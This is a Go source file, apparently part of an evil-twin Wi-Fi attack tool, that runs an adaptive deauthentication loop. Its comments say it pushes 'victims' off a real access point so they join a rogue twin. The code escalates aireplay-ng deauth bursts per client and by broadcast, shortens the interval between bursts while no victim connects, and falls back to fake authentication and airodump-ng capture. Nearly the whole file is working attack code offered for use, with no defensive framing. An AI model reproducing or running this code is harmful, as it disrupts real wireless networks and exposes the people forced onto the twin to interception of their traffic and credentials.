// Package deauth runs one adaptive escalation loop per targeted
// network, pushing victims off the real AP harder the longer nobody
// joins the twin.
package deauth

import (
	"context"
	"strconv"
	"time"

	"twincast/libs"
	"twincast/libs/proc"
)

const (
	MinIntensity  = 1
	MaxIntensity  = 7
	SampleEvery   = 30 * time.Second
	IntervalFloor = 5 * time.Second
	IntervalCeil  = 20 * time.Second
	packetPacing  = 200 * time.Millisecond
	toolTimeout   = 10 * time.Second
)

// Escalate maps the time spent without a single victim connection to
// the intensity level. Monotonic, capped.
func Escalate(current int, noConnectionSeconds int) int {
	var next int = current
	switch {
	case noConnectionSeconds >= 180:
		next = 7
	case noConnectionSeconds >= 120:
		next = 5
	case noConnectionSeconds >= 60:
		next = 3
	}
	if next < current {
		next = current
	}
	if next > MaxIntensity {
		next = MaxIntensity
	}
	return next
}

// Deescalate backs off one step once a victim has connected
func Deescalate(current int) int {
	if current <= MinIntensity {
		return MinIntensity
	}
	return current - 1
}

// ShrinkInterval tightens the burst interval as the dry spell grows
func ShrinkInterval(noConnectionSeconds int) time.Duration {
	var seconds int = 15 - noConnectionSeconds/30
	if seconds < 5 {
		seconds = 5
	}
	return time.Duration(seconds) * time.Second
}

// GrowInterval relaxes the burst interval while victims are connected
func GrowInterval(current time.Duration) time.Duration {
	current += 2 * time.Second
	if current > IntervalCeil {
		current = IntervalCeil
	}
	return current
}

// PacketCount is the per-client burst size for an intensity level
func PacketCount(intensity int) int {
	var count int = intensity * 2
	if count > 10 {
		count = 10
	}
	return count
}

// Escalator drives the loop for one real network.
type Escalator struct {
	Color       libs.Colors
	Iface       string
	Network     libs.Network
	Connected   func() int // session callback: victims on the twin
	OnIntensity func(bssid string, intensity int)

	intensity     int
	interval      time.Duration
	noConnSeconds int
}

func New(color libs.Colors, ifaceName string, network libs.Network, connected func() int, onIntensity func(string, int)) *Escalator {
	return &Escalator{
		Color:       color,
		Iface:       ifaceName,
		Network:     network,
		Connected:   connected,
		OnIntensity: onIntensity,
		intensity:   MinIntensity,
		interval:    10 * time.Second,
	}
}

func (e *Escalator) Intensity() int {
	return e.intensity
}

func (e *Escalator) Interval() time.Duration {
	return e.interval
}

// Sample applies one 30s observation to the escalator state
func (e *Escalator) Sample(connectedClients int) {
	if connectedClients == 0 {
		e.noConnSeconds += 30
		var next int = Escalate(e.intensity, e.noConnSeconds)
		if next != e.intensity {
			libs.Log(e.Color, "Escalating deauth on "+e.Network.Essid+" to intensity "+strconv.Itoa(next))
			e.intensity = next
		}
		e.interval = ShrinkInterval(e.noConnSeconds)
	} else {
		e.noConnSeconds = 0
		e.intensity = Deescalate(e.intensity)
		e.interval = GrowInterval(e.interval)
	}
	if e.OnIntensity != nil {
		e.OnIntensity(e.Network.Bssid, e.intensity)
	}
}

// Run loops until ctx is cancelled, sending bursts every interval and
// re-sampling the connection state every 30s.
func (e *Escalator) Run(ctx context.Context) {
	var lastSample time.Time = time.Now()
	if e.Network.Channel > 0 {
		// Bursts only land when the radio sits on the target's channel
		libs.ChangeChannel(e.Iface, e.Network.Channel)
	}
	if e.OnIntensity != nil {
		e.OnIntensity(e.Network.Bssid, e.intensity)
	}
	for {
		select {
		case <-ctx.Done():
			return
		case <-time.After(e.interval):
		}
		if time.Since(lastSample) >= SampleEvery {
			e.Sample(e.Connected())
			lastSample = time.Now()
		}
		e.burst(ctx)
		if e.intensity >= 5 {
			e.broadcast(ctx, 2)
		}
		if e.intensity >= MaxIntensity {
			e.fallback(ctx)
		}
	}
}

func (e *Escalator) burst(ctx context.Context) {
	var count int = PacketCount(e.intensity)
	for _, client := range e.Network.Clients {
		select {
		case <-ctx.Done():
			return
		default:
		}
		proc.Run(ctx, toolTimeout, "aireplay-ng",
			"-0", strconv.Itoa(count),
			"-a", e.Network.Bssid,
			"-c", client,
			e.Iface)
		time.Sleep(packetPacing)
	}
}

func (e *Escalator) broadcast(ctx context.Context, count int) {
	proc.Run(ctx, toolTimeout, "aireplay-ng",
		"-0", strconv.Itoa(count),
		"-a", e.Network.Bssid,
		e.Iface)
}

// fallback is the last rung: fake auth to confuse the AP, a brief
// channel-occupying capture, then rapid repeated bursts.
func (e *Escalator) fallback(ctx context.Context) {
	for _, client := range e.Network.Clients {
		proc.Run(ctx, toolTimeout, "aireplay-ng",
			"-1", "0",
			"-a", e.Network.Bssid,
			"-h", client,
			e.Iface)
		break // one association probe is enough
	}
	proc.Run(ctx, 5*time.Second, "airodump-ng",
		"--channel", strconv.Itoa(e.Network.Channel),
		"--bssid", e.Network.Bssid,
		e.Iface)
	for i := 0; i < 3; i++ {
		select {
		case <-ctx.Done():
			return
		default:
		}
		e.broadcast(ctx, 5)
		time.Sleep(500 * time.Millisecond)
	}
}
